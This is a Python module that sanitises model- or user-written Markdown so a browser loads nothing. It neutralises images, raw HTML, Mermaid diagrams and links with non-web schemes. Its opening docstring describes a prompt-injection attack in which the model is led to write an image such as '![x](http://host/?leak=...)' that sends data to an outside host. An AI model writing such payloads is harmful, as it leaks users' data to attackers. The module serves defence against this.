"""Markdown from a model or a person, made safe to show: nothing in it can make the
browser load anything.

An answer is untrusted: a prompt injection can make the model write
`![x](http://host/?leak=...)` or `<img src=...>`, and the browser would fetch it. The
rule here is simple and holds whatever the Markdown parser makes of the text:

- raw HTML is never markup: a `<` that could open a tag, a comment or an autolink gets
  an invisible word joiner after it, so it shows as `<` in prose and in code alike;
- no image is ever an image: inline and reference images become a line of text with
  the address as code, and any other `![` gets a word joiner between `!` and `[`;
- Mermaid blocks show as their source (a diagram can load images and style sheets);
- links stay links (the page opens them in a new tab with noopener and noreferrer),
  except those to a scheme other than http, https and mailto.

Code is no shelter: in "see http://x.y/`<img src=...>`" Gradio's renderer (GFM) ends
the bare address at the backtick and reads the tag after it as HTML, though it looks
like a code span. So telling code from prose here only decides how an image looks,
never whether it loads.
Applying `safe_markdown` twice gives the same text as applying it once, and it takes
time linear in the text (the chat shows every message again on each update).
"""

from __future__ import annotations

import bisect
import html
import re
from collections import defaultdict
from collections.abc import Iterator, Mapping

WORD_JOINER = "\u2060"
IMAGE_NOTE = "🖼️ image not loaded:"
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})

# ":" too: with it escaped, no address in the text becomes a link of its own (GFM).
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|>~$:])")
_TAG_OPENER = re.compile(r"<(?=[A-Za-z/!?])")
_IMAGE_OPENER = re.compile(r"!(?=\[)")
# Gradio's Markdown renders a fence whose info string is exactly "mermaid" as a diagram.
_MERMAID_FENCE = re.compile(r"```mermaid(?!-source)")
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")
_BRACKET_OR_BREAK = re.compile(r"\\.|[\[\]()]|\n[ \t]*\n", re.S)
_DEFINITION = re.compile(r"^ {0,3}\[((?:\\.|[^\\\[\]]){1,999})\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)",
                         re.M)
# A `]` before `(` or `:` (a link or a definition), and the start of its destination as
# far as it can spell a scheme: letters, digits, + - . \ controls, spaces and character
# references, then a colon. Only the `]` is matched, so no destination hides the next one,
# and each run is read once.
_LINK_TARGET = re.compile(r"\](?=[(:][ \t]*\n?[ \t]*<?"
                          r"((?:[A-Za-z0-9+.\-\\\x00-\x20]|&#?[0-9A-Za-z]+;?)*:?))")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_ESCAPED_PUNCTUATION = re.compile(r"\\([!-/:-@\[-`{-~])")


def safe_markdown(text: str) -> str:
    """`text` as Markdown that loads nothing from anywhere when a browser shows it."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    definitions = _definitions(text)
    pieces = [piece if is_code else _images_as_text(piece, definitions)
              for piece, is_code in _pieces(text)]
    text = "".join(pieces)
    if left_open := _open_fence(text):
        text += "\n" + left_open
    text = _LINK_TARGET.sub(_unsafe_link_broken, text)
    text = _TAG_OPENER.sub("<" + WORD_JOINER, text)
    text = _IMAGE_OPENER.sub("!" + WORD_JOINER, text)
    return _MERMAID_FENCE.sub("```mermaid-source", text)


def escape_markdown(text: str) -> str:
    """`text` shown exactly as it is, whatever Markdown characters it holds."""
    return (_MARKDOWN_SPECIAL.sub(r"\\\1", text.replace("&", "&amp;"))
            .replace("<", "&lt;"))


def code_span(text: str) -> str:
    """`text` as inline code on one line, fenced by more backticks than any run inside it,
    and no `<` in it that could open a tag where a renderer inserts the text raw."""
    flat = _TAG_OPENER.sub("<" + WORD_JOINER, " ".join(text.split()))
    longest = max((len(run) for run in re.findall(r"`+", flat)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if flat.startswith("`") or flat.endswith("`") or not flat else ""
    return f"{fence}{pad}{flat}{pad}{fence}"


# ---------------------------------------------------------------- code and prose

def _pieces(text: str) -> Iterator[tuple[str, bool]]:
    """`text` cut into (piece, is_code): fenced blocks and code spans are code."""
    prose: list[str] = []
    lines = text.split("\n")
    index = 0
    while index < len(lines):
        closing = _fence_closer(lines[index])
        if closing is None:
            prose.append(lines[index])
            index += 1
            continue
        end = next((i for i in range(index + 1, len(lines)) if _closes(lines[i], closing)),
                   len(lines) - 1)
        yield from _spans("\n".join(prose) + ("\n" if prose else ""))
        prose = []
        block = "\n".join(lines[index:end + 1])
        yield block + ("\n" if end + 1 < len(lines) else ""), True
        index = end + 1
    yield from _spans("\n".join(prose))


def _fence_closer(line: str) -> str | None:
    """The run of fence characters that closes the fence `line` opens, if it opens one."""
    match = _FENCE.match(line)
    if match is None:
        return None
    fence, info = match.groups()
    if fence.startswith("`") and "`" in info:
        return None  # not a fence: an info string after backticks holds no backtick
    return fence


def _closes(line: str, fence: str) -> bool:
    stripped = line.strip()
    return (len(line) - len(line.lstrip(" ")) <= 3 and len(stripped) >= len(fence)
            and set(stripped) == {fence[0]})


def _open_fence(text: str) -> str:
    """The fence left open at the end of `text`, or "" when every fence is closed."""
    closing = ""
    for line in text.split("\n"):
        if closing:
            if _closes(line, closing):
                closing = ""
        else:
            closing = _fence_closer(line) or ""
    return closing


def _spans(prose: str) -> Iterator[tuple[str, bool]]:
    """`prose` cut at its code spans: a run of backticks up to the next run as long.
    Each run is looked at once, so that no text costs more than linear time."""
    runs = [(match.start(), match.end()) for match in _BACKTICKS.finditer(prose)]
    same_length: dict[int, list[int]] = defaultdict(list)
    for number, (start, end) in enumerate(runs):
        same_length[end - start].append(number)
    shown = 0
    number = 0
    while number < len(runs):
        start, end = runs[number]
        later = same_length[end - start]
        closing = bisect.bisect_right(later, number)
        if closing == len(later):
            number += 1
            continue
        close_end = runs[later[closing]][1]
        yield prose[shown:start], False
        yield prose[start:close_end], True
        shown = close_end
        number = later[closing] + 1
    yield prose[shown:], False


# ---------------------------------------------------------------- images

def _definitions(text: str) -> dict[str, str]:
    """Link reference definitions: normalised label -> destination."""
    found: dict[str, str] = {}
    for label, destination in _DEFINITION.findall(text):
        found.setdefault(_label_key(label), destination.strip("<>"))
    return found


def _label_key(label: str) -> str:
    return " ".join(label.split()).casefold()


def _images_as_text(prose: str, definitions: Mapping[str, str]) -> str:
    pairs = _bracket_pairs(prose)
    out: list[str] = []
    index = 0
    while (start := prose.find("![", index)) != -1:
        if _escaped(prose, start):
            out.append(prose[index:start + 2])
            index = start + 2
            continue
        found = _image_at(prose, start, pairs, definitions)
        if found is None:
            out.append(prose[index:start + 2])
            index = start + 2
            continue
        end, address, alt = found
        out.append(prose[index:start] + _image_note(address, alt))
        index = end
    out.append(prose[index:])
    return "".join(out)


def _escaped(text: str, position: int) -> bool:
    backslashes = len(text[:position]) - len(text[:position].rstrip("\\"))
    return backslashes % 2 == 1


def _image_at(prose: str, start: int, pairs: Mapping[int, int],
              definitions: Mapping[str, str]) -> tuple[int, str, str] | None:
    """(end, address, alt text) of the image whose `![` is at `start`, if it is one."""
    alt_end = pairs.get(start + 1)
    if alt_end is None:
        return None
    alt = prose[start + 2:alt_end]
    after = alt_end + 1
    if prose.startswith("(", after):
        close = pairs.get(after)
        if close is None:
            return None
        destination = prose[after + 1:close].strip()
        address = (destination[1:destination.find(">")] if destination.startswith("<")
                   else (destination.split() or [""])[0])
        return close + 1, address, alt
    if prose.startswith("[", after):
        label_end = pairs.get(after)
        if label_end is None:
            return None
        label = prose[after + 1:label_end] or alt
        return label_end + 1, definitions.get(_label_key(label), ""), alt
    if _label_key(alt) in definitions:
        return after, definitions[_label_key(alt)], alt
    return None


def _bracket_pairs(text: str) -> dict[int, int]:
    """Where each [ and ( closes (index -> index), within its paragraph, in one pass;
    escaped brackets do not count."""
    pairs: dict[int, int] = {}
    open_at: dict[str, list[int]] = {"]": [], ")": []}
    for match in _BRACKET_OR_BREAK.finditer(text):
        char = match.group(0)
        if char in "[(":
            open_at["]" if char == "[" else ")"].append(match.start())
        elif char in "])":
            if open_at[char]:
                pairs[open_at[char].pop()] = match.start()
        elif not char.startswith("\\"):  # a blank line ends the paragraph
            open_at = {"]": [], ")": []}
    return pairs


def _image_note(address: str, alt: str) -> str:
    shown = address or " ".join(alt.split())
    return f"{IMAGE_NOTE} {code_span(shown)}" if shown else IMAGE_NOTE


# ---------------------------------------------------------------- links

def _unsafe_link_broken(match: re.Match[str]) -> str:
    """A link or definition to a scheme other than http, https and mailto, made text."""
    target = _ESCAPED_PUNCTUATION.sub(r"\1", html.unescape(match.group(1)))
    target = re.sub(r"[\x00-\x20\x7f" + WORD_JOINER + "]", "", target).lower()
    scheme = _SCHEME.match(target)
    if scheme is None or scheme.group(1) in SAFE_SCHEMES:
        return "]"
    return "]" + WORD_JOINER
